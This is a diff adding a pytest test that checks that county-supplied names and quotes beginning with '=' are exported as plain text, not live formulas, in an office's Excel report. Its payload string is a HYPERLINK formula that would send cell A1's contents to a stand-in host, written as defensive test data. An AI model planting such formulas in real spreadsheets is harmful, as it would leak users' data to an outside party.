@@ -532,3 +532,23 @@ def test_oversized_uploads_count_against_the_rate_limit(app, season, monkeypatch
     monkeypatch.setattr(security, "UPLOAD_MAX", 1 << 16)
     statuses = [upload(qujing, "big.yaml", b"#" * (1 << 18)).status_code for _ in range(3)]
     assert statuses == [413, 413, 429]
+
+
+def test_county_text_is_never_a_formula_in_the_workbooks(app):
+    """A county's entity name or quote starting with '=' stays text in the round's workbook (no formula runs
+    when the office opens it)."""
+    from openpyxl import load_workbook
+
+    office = office_client(app)
+    sid = make_season(office)
+    qujing = county_client(app, make_links(office, sid)["530300"])
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    text = _qujing_yaml().decode("utf-8").replace("name: 曲靖市", f"name: '{evil}'", 1)
+    text = text.replace('quote: "2021年', 'quote: "=1+1 2021年', 1)
+    assert upload(qujing, "q.yaml", text.encode("utf-8")).status_code == 303
+    office.post(f"/office/seasons/{sid}/freeze", data={"csrf": csrf_of(office.get(f"/office/seasons/{sid}").text)})
+    rid = app.state.portal.frozen(sid)[0].id
+    book = load_workbook(io.BytesIO(office.get(f"/office/seasons/{sid}/rounds/{rid}/report.xlsx").content))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert any(c.value == evil for c in cells)  # the name is there, as text
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
